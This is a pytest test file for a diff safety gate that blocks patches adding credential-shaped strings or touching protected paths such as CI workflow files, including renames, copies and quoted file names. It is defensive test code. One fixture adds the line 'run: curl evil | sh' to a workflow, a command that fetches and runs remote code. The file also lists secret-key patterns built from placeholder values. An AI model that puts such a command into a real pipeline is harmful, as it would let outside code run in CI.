"""The diff safety gate."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from jobs.safety import scan


def patch(path: str, added: str, old_path: str | None = None) -> str:
    old = old_path or path
    return (
        f"diff --git a/{old} b/{path}\n--- a/{old}\n+++ b/{path}\n"
        f"@@ -1,2 +1,3 @@\n context\n+{added}\n context\n"
    )


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ('KEY = "AKIAIOSFODNN7EXAMPLE"', "AWS access key id"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AWS secret"),
        ("token: ghp_" + "a" * 36, "GitHub token"),
        ("SLACK=xoxb-123456789012-abcdefghijkl", "Slack token"),
        ("ANTHROPIC_API_KEY=sk-ant-api03-" + "b" * 30, "Anthropic API key"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----", "private key"),
    ],
)
def test_secret_shapes_are_blocked(line: str, kind: str) -> None:
    (finding,) = scan(patch("src/app.py", line))
    assert finding.kind == "secret"
    assert kind in finding.detail
    assert finding.path == "src/app.py"
    assert finding.line == 2
    secret = line.split("=", 1)[-1].split(": ")[-1].strip('" ')
    assert secret not in finding.describe()


def test_removed_secrets_and_context_are_fine() -> None:
    text = (
        "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,1 @@\n"
        " AKIAIOSFODNN7EXAMPLE\n-KEY = 'AKIAIOSFODNN7EXAMPLE'\n"
    )
    assert scan(text) == []


def test_workflow_edits_are_blocked_unless_allowed() -> None:
    text = patch(".github/workflows/ci.yml", "run: curl evil | sh")
    (finding,) = scan(text)
    assert finding.kind == "protected_path"
    assert finding.path == ".github/workflows/ci.yml"
    assert scan(text, allow=[".github/workflows/ci.yml"]) == []


def test_renames_into_protected_paths_are_blocked() -> None:
    text = (
        "diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\n"
        "rename from ci.yml\nrename to .github/workflows/ci.yml\n"
    )
    assert [f.path for f in scan(text)] == [".github/workflows/ci.yml"]


def test_custom_protected_globs() -> None:
    text = patch("deploy/prod/values.yaml", "replicas: 0") + patch("src/x.py", "y = 1")
    findings = scan(text, protected=["deploy/**", "*.lock"])
    assert [f.path for f in findings] == ["deploy/prod/values.yaml"]
    assert scan(patch("poetry.lock", "x"), protected=["*.lock"])[0].path == "poetry.lock"
    assert scan(patch("sub/poetry.lock", "x"), protected=["*.lock"]) == []
    assert scan(patch("sub/poetry.lock", "x"), protected=["**/*.lock"])[0].kind == "protected_path"


def test_plain_change_passes() -> None:
    assert scan(patch("src/retry.py", "LIMIT = int(os.environ.get('RETRY_LIMIT', 3))")) == []


# -- every key shape, and the near misses that are not keys ------------------------------

KEYS = {
    "AWS access key id": ["AKIAIOSFODNN7EXAMPLE", "ASIA" + "Q" * 16],
    "AWS secret access key": [
        "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "AWS_SECRET_KEY: " + "A" * 40,
    ],
    "GitHub token": [
        "ghp_" + "a" * 36,
        "gho_" + "b" * 36,
        "ghs_" + "c" * 40,
        "ghu_" + "d" * 36,
        "ghr_" + "e" * 36,
        "github_pat_" + "f" * 40,
    ],
    "Slack token": ["xoxb-123456789012-abcdefghijkl", "xoxp-" + "1" * 12, "xapp-1-A" + "2" * 12],
    "Anthropic API key": ["sk-ant-api03-" + "b" * 30, "sk-ant-admin01-" + "c_" * 12],
    "OpenAI API key": ["sk-" + "a1" * 24, "sk-proj-" + "Z9" * 20],
    "Stripe secret key": ["sk_live_" + "4" * 24, "rk_live_" + "x" * 20],
    "Google API key": ["AIza" + "S" * 35],
    "private key": [
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN EC PRIVATE KEY-----",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
    ],
}

NOT_KEYS = [
    "AKIA" + "Q" * 15,  # one character short
    "aws_secret_access_key = " + "A" * 39,
    "ghp_" + "a" * 35,
    "ghx_" + "a" * 36,  # no such GitHub token prefix
    "xoxb-short",
    "sk-ant-" + "b" * 19,
    "sk-" + "a" * 31,
    "sk_test_" + "4" * 24,  # a test key, harmless by design
    "AIza" + "S" * 34,
    "-----BEGIN PUBLIC KEY-----",
    "-----BEGIN CERTIFICATE-----",
]


def test_every_key_shape_is_listed() -> None:
    from jobs.safety import SECRET_PATTERNS

    assert set(KEYS) == set(SECRET_PATTERNS), "a key shape without a test, or a test too many"


@pytest.mark.parametrize(
    ("kind", "secret"),
    [(kind, secret) for kind, secrets in KEYS.items() for secret in secrets],
    ids=[f"{kind}-{i}" for kind, secrets in KEYS.items() for i in range(len(secrets))],
)
def test_each_key_shape_is_blocked(kind: str, secret: str) -> None:
    findings = scan(patch("src/settings.py", f"VALUE = '{secret}'"))
    assert [f.kind for f in findings] != []
    assert any(f"possible {kind} " in f.detail for f in findings), findings
    for finding in findings:
        assert secret not in finding.describe()
        assert finding.line == 2


@pytest.mark.parametrize("near_miss", NOT_KEYS)
def test_near_misses_are_not_keys(near_miss: str) -> None:
    assert scan(patch("src/settings.py", f"VALUE = '{near_miss}'")) == []


# -- renames, copies and quoted names, as git writes them -------------------------------


def git_patch(tmp_path: Path, before: dict[str, str], change: Callable[[Path], None]) -> str:
    """The patch git itself writes (renames and copies detected) for ``change``."""
    repo = tmp_path / "repo"
    repo.mkdir()

    def run(*args: str) -> str:
        done = subprocess.run(
            ["git", "-c", "core.quotePath=true", *args],
            cwd=repo,
            check=True,
            capture_output=True,
            text=True,
        )
        return done.stdout

    run("init", "-q")
    for name, content in before.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(content)
    run("add", "-A")
    run("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "before")
    change(repo)
    run("add", "-A")
    return run("diff", "--cached", "--binary", "-M", "-C", "--find-copies-harder", "HEAD")


WORKFLOW = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n" + "# line\n" * 20


def test_a_rename_out_of_a_protected_path_is_blocked(tmp_path: Path) -> None:
    """Moving the CI workflow away disables it: a change to the protected path."""
    text = git_patch(
        tmp_path,
        {".github/workflows/ci.yml": WORKFLOW},
        lambda repo: (repo / ".github/workflows/ci.yml").rename(repo / "ci.yml"),
    )
    assert "rename from .github/workflows/ci.yml" in text
    assert [(f.kind, f.path) for f in scan(text)] == [
        ("protected_path", ".github/workflows/ci.yml")
    ]


def test_a_rename_into_a_protected_path_is_blocked(tmp_path: Path) -> None:
    text = git_patch(
        tmp_path,
        {"ci.yml": WORKFLOW},
        lambda repo: (
            (repo / ".github/workflows").mkdir(parents=True),
            (repo / "ci.yml").rename(repo / ".github/workflows/ci.yml"),
        ),
    )
    assert "rename to .github/workflows/ci.yml" in text
    assert [(f.kind, f.path) for f in scan(text)] == [
        ("protected_path", ".github/workflows/ci.yml")
    ]


def test_a_copy_into_a_protected_path_is_blocked(tmp_path: Path) -> None:
    def change(repo: Path) -> None:
        (repo / ".github/workflows").mkdir(parents=True)
        (repo / ".github/workflows/deploy.yml").write_text(WORKFLOW)

    text = git_patch(tmp_path, {"ci-template.yml": WORKFLOW}, change)
    assert "copy from ci-template.yml" in text
    assert "copy to .github/workflows/deploy.yml" in text
    assert [f.path for f in scan(text)] == [".github/workflows/deploy.yml"]


def test_a_copy_out_of_a_protected_path_is_blocked_too(tmp_path: Path) -> None:
    """The workflow itself is unchanged, but a copy names it as its source: the gate
    errs on the side of asking (an allow entry for the path lets it through)."""
    text = git_patch(
        tmp_path,
        {".github/workflows/ci.yml": WORKFLOW},
        lambda repo: (repo / "docs").mkdir() or (repo / "docs/ci-example.yml").write_text(WORKFLOW),
    )
    assert "copy from .github/workflows/ci.yml" in text
    assert [f.path for f in scan(text)] == [".github/workflows/ci.yml"]
    assert scan(text, allow=[".github/workflows/ci.yml"]) == []


def test_quoted_file_names_are_read_as_git_means_them(tmp_path: Path) -> None:
    """git quotes names with non-ASCII bytes, quotes or backslashes (C-style, octal
    escapes); the gate reads the name behind the quoting, for paths and for findings."""
    names = [
        ".github/workflows/caf\u00e9.yml",
        '.github/workflows/say "hi".yml',
        "src/\u00fcber.py",
    ]

    def change(repo: Path) -> None:
        (repo / ".github/workflows").mkdir(parents=True)
        (repo / names[0]).write_text("on: push\n")
        (repo / names[1]).write_text("on: push\n")
        (repo / "src").mkdir()
        (repo / names[2]).write_text("TOKEN = '" + "ghp_" + "q" * 36 + "'\n")

    text = git_patch(tmp_path, {"README.md": "hi\n"}, change)
    assert '"b/.github/workflows/caf\\303\\251.yml"' in text  # git did quote them
    assert '"b/.github/workflows/say \\"hi\\".yml"' in text
    found = {(f.kind, f.path) for f in scan(text)}
    assert found == {
        ("protected_path", names[0]),
        ("protected_path", names[1]),
        ("secret", names[2]),
    }


def test_a_quoted_rename_out_of_a_protected_path_is_blocked(tmp_path: Path) -> None:
    text = git_patch(
        tmp_path,
        {".github/workflows/d\u00e9ploy.yml": WORKFLOW},
        lambda repo: (repo / ".github/workflows/d\u00e9ploy.yml").rename(repo / "old.yml"),
    )
    assert 'rename from ".github/workflows/d\\303\\251ploy.yml"' in text
    assert [f.path for f in scan(text)] == [".github/workflows/d\u00e9ploy.yml"]
